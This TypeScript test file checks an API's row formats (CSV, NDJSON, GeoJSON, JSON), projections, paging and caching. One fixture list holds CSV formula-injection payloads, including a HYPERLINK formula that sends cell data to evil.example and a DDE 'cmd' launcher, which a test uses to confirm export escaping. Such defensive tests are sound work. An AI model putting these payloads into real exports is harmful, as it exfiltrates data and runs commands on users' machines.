import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { ListDelta } from "../src/contract/list-delta.js";
import { identityIn, rowsIn } from "../src/contract/row-list.js";
import { rowSchemaOf } from "../src/contract/row-schema.js";
import type { IdentifiedAnswer } from "../src/http/exchange.js";
import { HOUR_MS } from "../src/kit/clock.js";
import { loadServices } from "../src/services/registry.js";
import type { Earthquake } from "../src/services/seismology/records.js";
import { newestRecords, publish } from "./support/published.js";
import { expectRows, linesIn, tableIn } from "./support/row-formats.js";
import { call, json, type Stack, startStack } from "./support/stack.js";

const { operations } = await loadServices();
const lists = operations.flatMap(({ path, operation }) =>
  operation.list === undefined ? [] : [{ path, operation, list: operation.list }],
);
const examplesOfLists = lists.flatMap(({ path, operation, list }) =>
  operation.examples
    .filter((example) => !("jmespath" in example))
    .map((example) => ({ target: `${path}?${new URLSearchParams(example)}`, operation, list })),
);

const EARTHQUAKES = "/api/seismology/v1/list-earthquakes";
const CPI = "/api/economic/v1/get-us-cpi-monthly";
const CO2 = "/api/climate/v1/get-co2-monitoring";

let stack: Stack;
let key: Readonly<Record<string, string>>;
beforeAll(async () => {
  stack = await startStack({ filled: "all" });
  key = { "x-service-key": stack.service.access.ownerKey.key ?? "" };
}, 180_000);
afterAll(() => stack.close());

const get = async (target: string, headers: Readonly<Record<string, string>> = {}): Promise<IdentifiedAnswer> => {
  const answer = await stack.get(target, { ...key, ...headers });
  if (answer.status !== 200) throw new Error(`${answer.status} ${answer.body}`);
  return answer;
};

/** Adds parameters to a target. */
const plus = (target: string, more: string): string => `${target}${target.includes("?") ? "&" : "?"}${more}`;

/** The rows of a list. Rows in groups contain the name of their group. */
function plainRows(list: (typeof lists)[number]["list"], answer: unknown): readonly unknown[] {
  const rows = rowsIn(list, answer);
  if (!("groups" in list)) return rows;
  return (rows as { group: string; row: object }[]).map(({ group, row }) => ({ group, ...row }));
}

describe.each(examplesOfLists)("$target", ({ target, operation, list }) => {
  test("has the same rows in CSV, NDJSON and JSON", async () => {
    const [plain, table, lines] = await Promise.all([
      get(target),
      get(plus(target, "format=csv")),
      get(plus(target, "format=ndjson")),
    ]);
    const rows = plainRows(list, json(plain));
    expect(linesIn(lines)).toEqual(rows);
    expectRows(tableIn(table), rows);
    for (const answer of [table, lines]) {
      expect(answer.headers).toMatchObject({
        "X-Vigil-State": plain.headers["X-Vigil-State"],
        "X-Vigil-Generation": plain.headers["X-Vigil-Generation"],
        "X-Vigil-Rows": expect.stringMatching(`^count=${rows.length}(, total=\\d+)?$`),
      });
      expect(answer.headers["Last-Modified"]).toBe(plain.headers["Last-Modified"]);
    }
    expect(new Set([plain, table, lines].map(({ headers }) => headers["ETag"])).size).toBe(3);
    expect(table.headers["Content-Disposition"]).toBe(`inline; filename="${operation.rpc}.csv"`);
  });
});

const located = examplesOfLists.filter(({ list }) => list.location !== undefined);

test.each(located)("$target has the same rows in GeoJSON and in JSON", async ({ target, list }) => {
  const [plain, answer] = [await get(target), await get(plus(target, "format=geojson"))];
  const value = json(plain) as { readonly pagination?: unknown };
  const rows = plainRows(list, value);
  const { features, ...collection } = json(answer) as FeatureCollection;
  const { pagination } = value;
  expect(collection).toEqual({ type: "FeatureCollection", ...(pagination !== undefined && { pagination }) });
  expect(features.map(({ properties }) => properties)).toEqual(rows);
  expect(features.map(({ id }) => id)).toEqual(rowsIn(list, value).map((row) => identityIn(list, row)));
  for (const { type, geometry, properties } of features) {
    expect(type).toBe("Feature");
    expect(geometry).toEqual(pointIn(properties));
    const [east = 0, north = 0] = geometry?.coordinates ?? [];
    expect(Math.abs(east)).toBeLessThanOrEqual(180);
    expect(Math.abs(north)).toBeLessThanOrEqual(90);
  }
  expect(answer.headers["Content-Type"]).toBe("application/geo+json");
});

interface FeatureCollection {
  readonly type: string;
  readonly features: readonly {
    readonly type: string;
    readonly id?: string;
    readonly geometry: { readonly type: string; readonly coordinates: readonly number[] } | null;
    readonly properties: Readonly<Record<string, unknown>>;
  }[];
}

/** The coordinates of a row, whichever members contain them. */
function pointIn(row: Readonly<Record<string, unknown>>): object | null {
  const {
    latitude,
    lat = latitude,
    longitude,
    lon = longitude,
    lng = lon,
  } = { ...row, ...(row["location"] as object) } as {
    readonly [name: string]: unknown;
  };
  return lat === undefined || lng === undefined ? null : { type: "Point", coordinates: [lng, lat] };
}

test("every list whose rows have coordinates declares the coordinates, and has points in GeoJSON", async () => {
  for (const { path, operation, list } of lists) {
    const { properties } = rowSchemaOf(operation, list) as unknown as { properties: object };
    const isLocated = ["location", "lat", "latitude"].some((name) => name in properties);
    expect([operation.rpc, list.location !== undefined]).toEqual([operation.rpc, isLocated]);
    if (!isLocated) continue;
    const { features } = json(await get(`${path}?format=geojson`)) as FeatureCollection;
    expect([operation.rpc, features.filter(({ geometry }) => geometry).length > 0]).toEqual([operation.rpc, true]);
  }
});

test("no row has a member named delta, and no row of a list with groups has a member named group", () => {
  // The row formats add members with these names.
  for (const { operation, list } of lists) {
    const { properties } = rowSchemaOf(operation, list) as unknown as { properties: object };
    expect(properties).not.toHaveProperty("delta");
    if ("groups" in list) expect(properties).not.toHaveProperty("group");
  }
});

describe("the format of an answer", () => {
  const contentTypes = {
    json: "application/json; charset=utf-8",
    csv: "text/csv; charset=utf-8; header=present",
    ndjson: "application/x-ndjson",
    geojson: "application/geo+json",
  };

  test.each([
    { accept: undefined, format: "json" },
    { accept: "*/*", format: "json" },
    { accept: "application/json", format: "json" },
    { accept: "text/csv", format: "csv" },
    { accept: "TEXT/CSV; header=present", format: "csv" },
    { accept: "application/x-ndjson", format: "ndjson" },
    { accept: "application/geo+json", format: "geojson" },
    { accept: "application/geo+json, application/json;q=0.9", format: "geojson" },
    { accept: "application/geo+json;q=0.9, text/csv;q=0.9", format: "csv" },
    { accept: "text/*", format: "csv" },
    { accept: "application/*", format: "json" },
    { accept: "text/csv, */*", format: "csv" },
    { accept: "text/csv, */*;q=0.1", format: "csv" },
    { accept: "text/csv;q=0.5, application/json", format: "json" },
    { accept: "text/csv, application/json", format: "json" },
    { accept: "application/x-ndjson, text/csv;q=0.9, application/json;q=0.1", format: "ndjson" },
    { accept: "text/csv;q=0, */*;q=0.5", format: "json" },
    { accept: "application/json;q=0, */*", format: "csv" },
    { accept: "application/json;q=0", format: "json" },
    { accept: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8", format: "json" },
    { accept: "application/json, text/plain, */*", format: "json" },
    { accept: "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", format: "json" },
    { accept: "application/xml", format: "json" },
    { accept: "application/problem+json", format: "json" },
    { accept: "nonsense;;;q=x,,", format: "json" },
    { accept: `text/csv, ${"a/b, ".repeat(100)}c/d`, format: "csv" },
  ] as const)("is $format for Accept: $accept", async ({ accept, format }) => {
    const { headers } = await get(EARTHQUAKES, accept === undefined ? {} : { accept });
    expect(headers["Content-Type"]).toBe(contentTypes[format]);
    expect(headers["Vary"]).toBe("Accept, Accept-Encoding, Origin");
  });

  test("is determined by the parameter `format`, even if Accept prefers another format", async () => {
    const typeOf = async (format: string, accept: string) =>
      (await get(`${EARTHQUAKES}?format=${format}`, { accept })).headers["Content-Type"];
    expect(await typeOf("json", "text/csv")).toBe(contentTypes.json);
    expect(await typeOf("csv", "application/json")).toBe(contentTypes.csv);
    expect(await typeOf("", "text/csv")).toBe(contentTypes.csv);
  });

  test("gives the same bytes and ETag, whether Accept or the parameter selects it", async () => {
    const [byHeader, byParameter] = [
      await get(EARTHQUAKES, { accept: "text/csv" }),
      await get(`${EARTHQUAKES}?format=csv`),
    ];
    expect(byHeader.body).toBe(byParameter.body);
    expect(byHeader.headers["ETag"]).toBe(byParameter.headers["ETag"]);
  });

  test("format=json gives the same answer as no format", async () => {
    const [plain, named] = [await get(EARTHQUAKES), await get(`${EARTHQUAKES}?format=json`)];
    expect(named.body).toBe(plain.body);
    expect(named.headers).toEqual(plain.headers);
    expect(plain.headers).not.toHaveProperty("X-Vigil-Rows");
    expect(plain.headers).not.toHaveProperty("Content-Disposition");
  });

  test.each([
    [`${EARTHQUAKES}?format=xml`, 'must be one of json, csv, ndjson, geojson, atom, jsonfeed, got "xml"'],
    [`${EARTHQUAKES}?format=csv&format=json`, "must be given once, got 2 values"],
    [
      `${EARTHQUAKES}?format=csv&explain=true`,
      "must be json with explain=true, unless jmespath selects rows from the answer",
    ],
    [`${CPI}?format=geojson`, "must be one of json, csv, ndjson here: the rows have no coordinates"],
    [`${CPI}?format=atom`, "must be one of json, csv, ndjson here: the rows are not entries of a feed"],
    [`${CO2}?format=csv`, "must be json here: the answer is not a list of rows"],
    ["/api/account/v1/list-keys?format=csv", "must be json here: account data is served only as JSON"],
  ])("%s is refused", async (target, description) => {
    const answer = await stack.get(target, key);
    expect(answer.status).toBe(400);
    expect(json(answer)).toEqual({ violations: [{ field: "format", description }] });
  });

  test("format=json is accepted everywhere, and Accept has no effect on an answer without rows", async () => {
    for (const target of [CO2, "/api/account/v1/list-keys"]) {
      expect((await get(`${target}?format=json`)).headers["Content-Type"]).toBe(contentTypes.json);
      expect((await get(target, { accept: "text/csv" })).headers["Content-Type"]).toBe(contentTypes.json);
    }
    const placeless = await get(CPI, { accept: "application/geo+json, text/csv;q=0.1" });
    expect(placeless.headers["Content-Type"]).toBe(contentTypes.csv);
    expect((await get(CPI, { accept: "application/geo+json" })).headers["Content-Type"]).toBe(contentTypes.json);
    const explained = await get(`${EARTHQUAKES}?explain=true`, { accept: "text/csv" });
    expect(explained.headers["Content-Type"]).toBe(contentTypes.json);
  });

  test("is JSON for a failure", async () => {
    const answer = await stack.get(`${EARTHQUAKES}?min_magnitude=many`, { ...key, accept: "text/csv" });
    expect([answer.status, answer.headers["Content-Type"]]).toEqual([400, contentTypes.json]);
  });
});

describe("a projection", () => {
  const project = (expression: string, format: string): string =>
    `${EARTHQUAKES}?format=${format}&jmespath=${encodeURIComponent(expression)}`;

  test("is applied before the format, and its result must be the array of rows", async () => {
    const expression = "earthquakes[?magnitude>`5`].{id: id, place: place, at: location, mark: nearTestSite}";
    const rows = json(await get(project(expression, "json"))) as unknown[];
    expect(rows.length).toBeGreaterThan(1);
    const [table, lines] = [await get(project(expression, "csv")), await get(project(expression, "ndjson"))];
    expect(linesIn(lines)).toEqual(rows);
    expectRows(tableIn(table), rows);
    expect(tableIn(table).columns).toEqual(["id", "place", "at.latitude", "at.longitude", "mark"]);
    expect(table.headers["X-Vigil-Rows"]).toBe(`count=${rows.length}`);
  });

  test("whose result is an array of values or of arrays has one column in CSV", async () => {
    const ids = json(await get(project("earthquakes[].id", "json")));
    const table = tableIn(await get(project("earthquakes[].id", "csv")));
    expect(table.columns).toEqual(["value"]);
    expect(table.rows.map(([id]) => id)).toEqual(ids);
    const pairs = tableIn(await get(project("earthquakes[:2].[id, magnitude]", "csv")));
    expect(pairs.rows.map(([pair = ""]) => JSON.parse(pair))).toEqual(
      json(await get(project("earthquakes[:2].[id, magnitude]", "json"))),
    );
    expect(linesIn(await get(project("earthquakes[:2].id", "ndjson")))).toEqual((ids as string[]).slice(0, 2));
  });

  test("whose result is an empty array has an empty body in CSV and NDJSON", async () => {
    for (const format of ["csv", "ndjson"]) {
      const answer = await get(project("earthquakes[?magnitude>`11`]", format));
      expect([String(answer.body), answer.headers["X-Vigil-Rows"]]).toEqual(["", "count=0"]);
    }
  });

  test("has points in GeoJSON if its rows still have their coordinates", async () => {
    const collectionOf = async (expression: string) =>
      json(await get(project(expression, "geojson"))) as FeatureCollection;
    const whole = json(await get(`${EARTHQUAKES}?format=geojson`)) as FeatureCollection;
    const rows = await collectionOf("earthquakes[:3].{id: id, location: location}");
    expect(rows).toEqual({
      type: "FeatureCollection",
      features: whole.features.slice(0, 3).map(({ id, geometry, properties: { location } }) => ({
        type: "Feature",
        geometry,
        properties: { id, location },
      })),
    });
    const others = await collectionOf(
      '[earthquakes[0].id, `null`, `1`, `{"location": 1}`, `{"location": {"latitude": "1"}}`, `[]`]',
    );
    expect(others.features.map(({ geometry }) => geometry)).toEqual(Array.from({ length: 6 }, () => null));
    expect((await collectionOf("earthquakes[?magnitude>`11`]")).features).toEqual([]);
  });

  test("can take its rows from the member `explain`", async () => {
    const target = plus(project("explain.datasets[].sources[].[source, rows]", "ndjson"), "explain=true");
    expect(linesIn(await get(target)).length).toBeGreaterThan(0);
  });

  test.each([
    ["pagination", "an object"],
    ["@", "an object"],
    ["pagination.totalCount", "a number"],
    ["earthquakes[0].id", "a string"],
    ["none", "null"],
  ])("%s is refused in CSV, NDJSON and GeoJSON, because its result is %s", async (expression, kind) => {
    for (const format of ["csv", "ndjson", "geojson"]) {
      const answer = await stack.get(project(expression, format), key);
      expect(answer.status).toBe(400);
      expect(json(answer)).toEqual({
        _jmespath_error: `not_rows: the result must be an array for ${format}, got ${kind}`,
        original_keys: ["earthquakes", "pagination"],
      });
    }
  });

  test("whose CSV is larger than the limit for projections is refused", async () => {
    // Thousands of numbers and an object with a hundred members: small as JSON, but a hundred commas per number as CSV.
    const wide = `pagination.totalCount.{${Array.from({ length: 100 }, (_, at) => `a${at}:@`).join()}}`;
    const many = `earthquakes[].magnitude.[${Array.from({ length: 60 }, () => "@").join()}][]`;
    const expression = `[[${wide}],${many}][]`;
    expect(Buffer.byteLength(String((await get(project(expression, "json"))).body))).toBeLessThan(50_000);
    const answer = await stack.get(project(expression, "csv"), key);
    expect(answer.status).toBe(400);
    expect(json(answer)).toEqual({
      _jmespath_error: "projection_too_large: more than 262144 bytes of csv",
      original_keys: ["earthquakes", "pagination"],
    });
  });

  test("whose evaluation fails gets the same answer in CSV as in JSON", async () => {
    const answers = ["json", "csv"].map((format) => stack.get(project("abs(@)", format), key));
    const [plain, table] = await Promise.all(answers);
    expect([table?.status, json(table as IdentifiedAnswer)]).toEqual([400, json(plain as IdentifiedAnswer)]);
  });
});

describe("a list in pages", () => {
  /** The address of the next page. */
  const nextOf = ({ headers }: IdentifiedAnswer): string | undefined =>
    /^<(\?[^>]+)>; rel="next"/.exec(headers["Link"] ?? "")?.[1];

  test.each(["csv", "ndjson", "geojson"])(
    "as %s, returns all rows to a caller that follows the link from page to page",
    async (format) => {
      const all = json(await get(EARTHQUAKES)) as { earthquakes: { id: string }[] };
      const ids: unknown[] = [];
      for (let query: string | undefined = `?page_size=20&format=${format}`; query !== undefined; ) {
        const page: IdentifiedAnswer = await get(EARTHQUAKES + query);
        const rows =
          format === "csv"
            ? tableIn(page).rows.map(([id]) => ({ id }))
            : format === "ndjson"
              ? linesIn(page)
              : (json(page) as FeatureCollection).features;
        expect(page.headers["X-Vigil-Rows"]).toBe(`count=${rows.length}, total=${all.earthquakes.length}`);
        ids.push(...(rows as { id: unknown }[]).map(({ id }) => id));
        query = nextOf(page);
      }
      expect(ids).toEqual(all.earthquakes.map(({ id }) => id));
    },
  );

  test("keeps the caller's query in the link to the next page", async () => {
    const accept = { accept: "text/csv" };
    const target = `${EARTHQUAKES}?min_magnitude=4.6&page_size=5&${new URLSearchParams({ jmespath: "earthquakes[].{a: id}", x: 'é>"' })}`;
    const first = await get(target, accept);
    const link = nextOf(first) ?? "";
    expect(link).toMatch(/^[\x21-\x7e]+$/);
    const cursor = new URLSearchParams(link).get("cursor") ?? "";
    const second = await get(`${target}&cursor=${cursor}&format=json`);
    expect(tableIn(await get(EARTHQUAKES + link, accept)).rows).toEqual(
      (json(second) as { a: string }[]).map(({ a }) => [a]),
    );
  });

  test("accepts a cursor from another format", async () => {
    const { pagination } = json(await get(`${EARTHQUAKES}?page_size=10`)) as { pagination: { nextCursor: string } };
    const page = (format: string) =>
      get(`${EARTHQUAKES}?page_size=10&cursor=${pagination.nextCursor}&format=${format}`);
    expectRows(tableIn(await page("csv")), (json(await page("json")) as { earthquakes: unknown[] }).earthquakes);
  });

  test("has no link on the last page, and none in JSON", async () => {
    expect(nextOf(await get(`${EARTHQUAKES}?format=csv`))).toBeUndefined();
    expect(nextOf(await get(`${EARTHQUAKES}?page_size=5`))).toBeUndefined();
  });
});

test("an answer in a row format is revalidated by its own ETag, and by its Last-Modified time", async () => {
  const accept = { accept: "text/csv" };
  const { headers } = await get(EARTHQUAKES, accept);
  const etag = headers["ETag"] ?? "";
  const ask = (more: Readonly<Record<string, string>>) => stack.get(EARTHQUAKES, { ...key, ...more });
  const confirmed = await ask({ ...accept, "if-none-match": etag });
  expect([confirmed.status, confirmed.body, confirmed.headers["ETag"]]).toEqual([304, undefined, etag]);
  expect((await ask({ "if-none-match": etag })).status).toBe(200);
  const plain = (await get(EARTHQUAKES)).headers["ETag"] ?? "";
  expect((await ask({ ...accept, "if-none-match": plain })).status).toBe(200);
  expect((await ask({ ...accept, "if-modified-since": headers["Last-Modified"] ?? "" })).status).toBe(304);
});

test("the signature of a CSV answer covers its content type and its number of rows", async () => {
  const { headers } = await get(`${EARTHQUAKES}?format=csv&signature=1`);
  expect(headers["Signature-Input"]).toContain('"content-type"');
  expect(headers["Signature-Input"]).toContain('"x-vigil-rows"');
});

test("a compressed CSV answer has the same rows as an uncompressed one", async () => {
  const target = `${EARTHQUAKES}?format=csv&min_magnitude=4.5`;
  const packed = await get(target, { "accept-encoding": "gzip, identity;q=0" });
  expect(packed.headers["Content-Encoding"]).toBe("gzip");
  expect(gunzipSync(packed.body as Buffer).toString()).toBe(String((await get(target)).body));
});

test("an item of a batch is answered as JSON, and is refused if it requests another format", async () => {
  const items = [EARTHQUAKES, `${EARTHQUAKES}?format=json`, `${EARTHQUAKES}?format=csv`];
  const body = JSON.stringify({ operations: items.map((path, at) => ({ id: String(at), path })) });
  const headers = { ...key, accept: "text/csv", "content-type": "application/json" };
  const answer = await call(stack.answer, "POST", "/api/batch/v1/execute", headers, { body });
  const { results } = json(answer) as { results: { status: number; body: unknown }[] };
  expect(results.map(({ status }) => status)).toEqual([200, 200, 400]);
  expect(results[2]?.body).toEqual({
    violations: [{ field: "format", description: "must be json in a batch, whose answer is JSON" }],
  });
});

describe("formats of several generations", () => {
  let own: Stack;
  let [firstAt, rows] = [0, [] as readonly Earthquake[]];
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-800",
    "-0",
    "\tTAB",
    "\r\nnext,line",
    "'=quoted",
    'a "b", c',
    "\u2028\u2029",
    "\uFEFFmark",
    "日本 🌋",
    "\u0000\u0007",
    "null",
    "",
    " ",
    ",",
    '"',
    "a;=1",
    "{}",
  ];
  const inOwn = async (more: string, accept = ""): Promise<IdentifiedAnswer> =>
    own.get(`${EARTHQUAKES}?${more}`, {
      "x-service-key": own.service.access.ownerKey.key ?? "",
      ...(accept && { accept }),
    });

  beforeAll(async () => {
    own = await startStack({ filled: ["earthquakes"], datasets: ["earthquakes"] });
    firstAt = own.clock.now();
    own.clock.advance(HOUR_MS);
    const { earthquakes } = json(await inOwn("")) as { earthquakes: Earthquake[] };
    rows = earthquakes.map((row, at) => ({ ...row, place: hostile[at % hostile.length] as string }));
    const [first = "", ...others] = Object.keys(await newestRecords(own, "earthquakes"));
    await publish(own, "earthquakes", {
      [first]: rows.slice(2),
      ...Object.fromEntries(others.map((name) => [name, []])),
    });
  });
  afterAll(() => own.close());

  test("rows with hostile strings are the same in every format, and no cell is a formula", async () => {
    const { earthquakes } = json(await inOwn("")) as { earthquakes: Earthquake[] };
    expect(new Set(earthquakes.map(({ place }) => place)).size).toBe(hostile.length);
    expect(linesIn(await inOwn("format=ndjson"))).toEqual(earthquakes);
    const { features } = json(await inOwn("format=geojson")) as FeatureCollection;
    expect(features.map(({ properties }) => properties)).toEqual(earthquakes);
    const table = tableIn(await inOwn("format=csv"));
    expectRows(table, earthquakes);
    const cells = table.rows.flat().filter((cell) => cell !== undefined && /^[=+\-@\t\r\n]/.test(cell));
    expect(cells.filter((cell) => Number.isNaN(Number(cell)))).toEqual([]);
  });

  test("an answer for a past instant has the same rows in CSV as in JSON", async () => {
    const asOf = `as_of=${firstAt}`;
    const past = json(await inOwn(asOf)) as { earthquakes: Earthquake[] };
    const table = await inOwn(`${asOf}&page_size=7`, "text/csv");
    expectRows(tableIn(table), past.earthquakes.slice(0, 7));
    expect(table.headers).toMatchObject({ "X-Vigil-Generation": "earthquakes=1" });
    expect(table.headers["Memento-Datetime"]).toBeDefined();
    expect(table.headers["Link"]).toMatch(
      /^<\?as_of=.*>; rel="next", <\/api\/datasets\/history\?name=earthquakes>; rel="timemap"$/,
    );
  });

  test("in every row format, an answer to since_generation has a row for each change, with the kind of change", async () => {
    const { earthquakes, delta } = json(await inOwn("since_generation=1")) as {
      earthquakes: Earthquake[];
      delta: ListDelta;
    };
    expect(delta.removedCount).toBe(2);
    const expected = delta.changes.map((change, at) => ({ delta: change, ...earthquakes[at] }));
    const lines = await inOwn("since_generation=1&format=ndjson");
    expect(linesIn(lines)).toEqual(expected);
    expect(lines.headers["X-Vigil-Rows"]).toBe(`count=${expected.length}, total=${expected.length}`);
    const { features } = json(await inOwn("since_generation=1&format=geojson")) as FeatureCollection;
    expect(features.map(({ properties }) => properties)).toEqual(expected);
    expect(features.map(({ id }) => id)).toEqual(delta.changes.map(({ id }) => id));
    expect(features.at(-1)?.geometry).toBeNull();
    const table = tableIn(await inOwn("since_generation=1&format=csv"));
    expectRows(table, expected);
    expect(table.columns.slice(0, 4)).toEqual(["delta.kind", "delta.id", "delta.index", "id"]);
    expect(tableIn(await inOwn("since_generation=2&format=csv")).columns).toEqual(table.columns);
  });
});

test("a list without data has the columns of its schema, but no rows", async () => {
  const empty = await startStack({ datasets: ["earthquakes"] });
  const headers = { "x-service-key": empty.service.access.ownerKey.key ?? "" };
  const answer = await empty.get(`${EARTHQUAKES}?format=csv`, headers);
  const full = tableIn(await get(`${EARTHQUAKES}?format=csv`));
  expect([answer.status, answer.headers["X-Vigil-State"]]).toEqual([200, "absent"]);
  expect(tableIn(answer)).toEqual({ columns: full.columns, rows: [] });
  const features = json(await empty.get(`${EARTHQUAKES}?format=geojson`, headers)) as FeatureCollection;
  expect(features).toMatchObject({ type: "FeatureCollection", features: [] });
  await empty.close();
});
